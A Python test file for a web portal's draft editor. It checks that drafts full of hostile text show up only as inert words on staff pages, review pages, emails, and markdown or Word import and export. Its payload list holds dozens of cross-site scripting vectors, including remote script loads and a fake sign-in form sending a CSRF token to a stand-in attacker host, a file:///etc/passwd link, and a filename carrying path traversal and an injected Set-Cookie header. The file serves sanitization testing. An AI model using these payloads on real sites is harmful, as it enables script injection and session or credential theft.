"""Hostile text in a draft: whatever stands in its steps, no page, mail or file of ours makes more of it than words."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import pytest
from bs4 import BeautifulSoup, Tag
from sqlalchemy import select

from cab_portal.accounts.models import Person
from cab_portal.core import ids
from cab_portal.core.actor import acting_as
from cab_portal.database import session, unit_of_work
from cab_portal.drafts import queries, service
from cab_portal.drafts.models import Draft, Version
from cab_portal.drafts.rules import DraftKind, StepInput
from cab_portal.drafts.text.blocks import parse_blocks
from cab_portal.drafts.text.rendering import render
from cab_portal.outbox.models import OutboxMessage
from cab_portal.web import mail_transport
from tests.documents import docx, heading, paragraph
from tests.factories import boards, requests
from tests.factories import drafts as factories
from tests.factories.accounts import actor_of, staff
from tests.page_client import PageClient

pytestmark = pytest.mark.usefixtures("app")
SignIn = Callable[[Person], PageClient]

# Written for this test: ways into a page through HTML, links, attributes, tables, code, placeholders and encodings.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "<svg><animate onbegin=alert(4) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(5)</script>'></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(6)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(7)>'>",
    "<a href='javascript:alert(8)'>words</a>",
    "[words](javascript:alert(9))",
    "[words](JaVaScRiPt:alert(10))",
    "[words](java&#115;cript:alert(11))",
    "[words](<javascript:alert(12)>)",
    "[words](&#x6A;avascript&colon;alert(13))",
    "[words](\x01javascript:alert(14))",
    "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[words](vbscript:msgbox(15))",
    "[words](file:///etc/passwd)",
    "[words](//evil.example)",
    '[words](https://evil.example "onmouseover=alert(16)")',
    '[words](https://evil.example/"onmouseover=alert(17)//)',
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(18)](y)',
    '<https://evil.example/"onclick=alert(19)>',
    "<javascript:alert(20)>",
    "[x]\n\n[x]: javascript:alert(21)",
    "| <b onclick=alert(22)>a</b> | b |\n|---|:-:|\n| `</td><script>alert(23)</script>` | c |",
    "```\n</code></pre><script>alert(24)</script>\n```",
    "```html onload=alert(25)\nx\n```",
    "    </textarea><script>alert(26)</script>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<p style='background:url(//evil.example)'>words</p>",
    "<form action=//evil.example><input name=csrf_token><button>Sign in</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "</main></body></html><script>alert(27)</script>",
    "</title><script>alert(28)</script>",
    "<!--<img src=x onerror=alert(29)>-->",
    "<![CDATA[<script>alert(30)</script>]]>",
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    "\\<script>alert(32)\\</script>",
    "<scr\0ipt>alert(33)</scr\0ipt>".replace("\0", "\u200b"),
    "<details open ontoggle=alert(34)>",
    "<video><source onerror=alert(35)></video>",
    "<a id=csrf_token name=documentElement>words</a>",
    "{<img src=x onerror=alert(36)>}",
    "{{ config }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "\u202e<script>alert(37)</script>\u2066",
    "﹤script﹥alert(38)﹤/script﹥",
    "> <b onfocus=alert(39) tabindex=0 autofocus>quoted</b>",
    "- <li onclick=alert(40)>item",
    "# <h1 onclick=alert(41)>heading</h1>",
    "~~<s onclick=alert(42)>struck</s>~~ **<b onclick=alert(43)>bold</b>**",
    "`<code onclick=alert(44)>`",
    "a<br onclick=alert(45)>b",
    "<x-element is=script>alert(46)</x-element>",
)
# A control character is no text of a page; alone it is checked below.
TEXT = "\n\n".join(payload for payload in PAYLOADS if "\x01" not in payload)
LINE = "</title>\"'><script>alert(0)</script><img src=x onerror=alert(0)>"
# What pages of ours are made of, and nothing that runs or loads.
FORBIDDEN = "script, iframe, object, embed, img, video, audio, source, style, base, meta, math, form, input, button"
ACTIVE = ("style", "srcdoc", "is", "autofocus", "formaction", "action")
SAFE_LINK = re.compile(r"(?i)(https?:|mailto:)")


def problems_in(part: Tag) -> list[str]:
    """What in a part of a page could run, load or send something."""
    found = [str(element)[:80] for element in part.select(FORBIDDEN)]
    for element in part.find_all(True):
        found += [f"{name} on {element.name}" for name in element.attrs if name.startswith("on") or name in ACTIVE]
        href = str(element.get("href") or "")
        # Beside the text stand links of ours: to comment on a block.
        is_text = element.find_parent(class_="prose") and not element.find_parent(attrs={"data-ui": True})
        if href and is_text and not SAFE_LINK.match(href):
            found.append(f"link to {href}")
    return found


def hostile_texts(soup: BeautifulSoup) -> list[Tag]:
    """The parts of a page that show texts of a draft."""
    shown = (".prose", ".version-text", ".version-lines", ".envelope", "h1", "h2", "h3")
    return soup.select(", ".join(f"main {name}" for name in shown))


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_payload_alone_renders_as_words(payload: str) -> None:
    html = render(parse_blocks(payload))
    assert problems_in(BeautifulSoup(f"<div class='prose'>{html}</div>", "html.parser")) == []


def hostile_draft(mara: Person, kind: DraftKind = DraftKind.EMAIL_SERIES) -> Draft:
    lines = dict.fromkeys(("channel", "timing", "role", "sender", "subject", "preview", "goal"), LINE)
    draft = factories.draft(mara, kind=kind, title=LINE, goal=TEXT[:900], steps=[StepInput(LINE, TEXT, **lines)])  # type: ignore[arg-type]
    factories.version(draft, TEXT[:900])
    factories.rewrite(queries.steps_of(draft.id)[0], TEXT + "\n\nAnd more.", subject=LINE + LINE)
    with acting_as(actor_of(mara)), unit_of_work():
        step_id = queries.steps_of(draft.id)[0].id
        service.share_version(session.get_one(Draft, draft.id), LINE, {step_id: LINE})
    factories.rewrite(queries.steps_of(draft.id)[0], TEXT + "\n\nAnd still more.")
    return draft


@pytest.mark.parametrize("kind", [DraftKind.EMAIL_SERIES, DraftKind.COURSE])
def test_every_page_of_a_hostile_draft_shows_words(signed_in: SignIn, kind: DraftKind) -> None:
    mara = staff(name="Mara Keller")
    draft = hostile_draft(mara, kind)
    desk = signed_in(mara)
    base = f"/staff/drafts/{ids.encode(draft.id)}"
    step = ids.encode(queries.steps_of(draft.id)[0].id)
    pages = (
        "",
        "/edit",
        "/preview",
        "/versions/2",
        "/compare",
        "/versions/new",
        f"/steps/{step}",
        f"/steps/{step}/delete",
    )
    for rest in pages:
        page = desk.get(base + rest)
        assert page.status == 200, rest
        texts = hostile_texts(page.soup)
        assert texts, rest
        assert [problem for part in texts for problem in problems_in(part)] == [], rest
        assert page.soup.select("main script, main img, main iframe, body > script") == [], rest
        assert "alert(0)" in page.words, rest


def test_the_members_pages_of_a_hostile_draft_show_words(signed_in: SignIn) -> None:
    mara = staff(name="Mara Keller")
    draft = hostile_draft(mara)
    board = boards.board()
    seat = boards.seat(board)
    first = session.scalars(select(Version).where(Version.draft_id == draft.id, Version.number == 1)).one()
    request = requests.open_request(requests.Ground(mara, draft, first, board, (seat,)))
    member = signed_in(session.get_one(Person, seat.person_id))
    for rest in ("/v/1/steps/1", "/compare"):
        response = member.client.get(f"/reviews/{ids.encode(request.id)}{rest}")
        assert response.status_code == 200, rest
        texts = hostile_texts(BeautifulSoup(response.get_data(as_text=True), "html.parser"))
        assert texts, rest
        assert [problem for part in texts for problem in problems_in(part)] == [], rest
    mails = [mail_transport.render(message) for message in session.query(OutboxMessage)]
    assert mails
    for mail in mails:
        assert "<script" not in mail.html
        assert "<img" not in mail.html
        assert "\n" not in mail.subject


def test_the_file_of_a_hostile_draft_has_a_safe_name_and_reads_back_the_same(signed_in: SignIn) -> None:
    mara = staff(name="Mara Keller")
    draft = factories.draft(mara, title='../../"\r\nSet-Cookie: a=b; <x>', steps=[StepInput(LINE, TEXT)])
    desk = signed_in(mara)
    base = f"/staff/drafts/{ids.encode(draft.id)}"
    response = desk.get(f"{base}/markdown").response
    assert response.headers["Content-Disposition"] == 'attachment; filename="set-cookie-a-b-x.md"'
    assert response.mimetype == "text/markdown"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    form = desk.get(f"{base}/import").form(f"{base}/import")
    form.fill(file=(io.BytesIO(response.get_data()), "x.md")).submit("Import file")
    session.expire_all()
    assert [(step.title, step.markdown) for step in queries.steps_of(draft.id)] == [(LINE, TEXT)]


@pytest.mark.parametrize("form", ["markdown", "word"])
def test_an_imported_file_full_of_it_shows_words(signed_in: SignIn, form: str) -> None:
    mara = staff(name="Mara Keller")
    desk = signed_in(mara)
    if form == "markdown":
        data, name = f"# {LINE}\n\n## {LINE}\n\n{TEXT}\n".encode(), "a.md"
    else:
        blocks = [paragraph(run) for run in TEXT.split("\n") if run.strip() and not run.startswith("<")]
        texts = [paragraph(f"x {run}") for run in TEXT.split("\n") if run.strip()]
        data, name = docx(heading(f"x {LINE}"), *blocks, *texts), "a.docx"
    address = "/staff/drafts/import"
    report = (
        desk.get(address)
        .form(address)
        .fill(kind="policy", title=LINE, file=(io.BytesIO(data), name))
        .submit("Import file")
    )
    assert report.h1 == "What the import did"
    assert report.soup.select("main script, main img, main iframe") == []
    draft = session.query(Draft).one()
    page = desk.get(f"/staff/drafts/{ids.encode(draft.id)}/preview")
    assert [problem for part in hostile_texts(page.soup) for problem in problems_in(part)] == []
